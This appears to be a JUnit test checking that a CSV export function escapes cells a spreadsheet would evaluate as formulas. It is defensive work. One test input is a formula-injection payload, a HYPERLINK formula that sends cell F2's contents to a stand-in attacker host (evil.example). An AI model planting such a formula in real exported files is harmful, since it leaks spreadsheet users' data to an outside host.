package dev.gatehouse.audit.rest;

import org.junit.jupiter.api.Test;

import static org.junit.jupiter.api.Assertions.assertEquals;

class CsvFieldTest {

    @Test
    void L2_cellsASpreadsheetWouldRunAsFormulasStayText() {
        assertEquals("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&F2,\"\"x\"\")\"",
                EventExport.csvField("=HYPERLINK(\"https://evil.example/?\"&F2,\"x\")"));
        assertEquals("'+1", EventExport.csvField("+1"));
        assertEquals("'-2+3", EventExport.csvField("-2+3"));
        assertEquals("'@SUM(A1)", EventExport.csvField("@SUM(A1)"));
        assertEquals("'\tcmd", EventExport.csvField("\tcmd"));
        assertEquals("\"'\rcmd\"", EventExport.csvField("\rcmd"));
        // ordinary values and numbers are unchanged
        assertEquals("list_issues", EventExport.csvField("list_issues"));
        assertEquals("a=b", EventExport.csvField("a=b"));
        assertEquals("-5", EventExport.csvField(-5L));
        assertEquals("", EventExport.csvField(null));
    }
}
